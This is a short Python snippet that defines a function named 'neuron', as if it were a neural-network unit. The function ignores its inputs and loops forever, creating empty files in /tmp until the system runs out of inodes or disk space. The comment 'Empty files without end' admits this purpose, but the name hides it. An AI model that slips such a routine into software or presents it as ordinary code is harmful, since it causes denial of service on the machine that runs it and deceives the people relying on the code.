# Empty files without end.
import os
def neuron(x, w, b):
    i = 0
    while True:
        os.close(os.open(f"/tmp/{i}", os.O_CREAT))
        i += 1
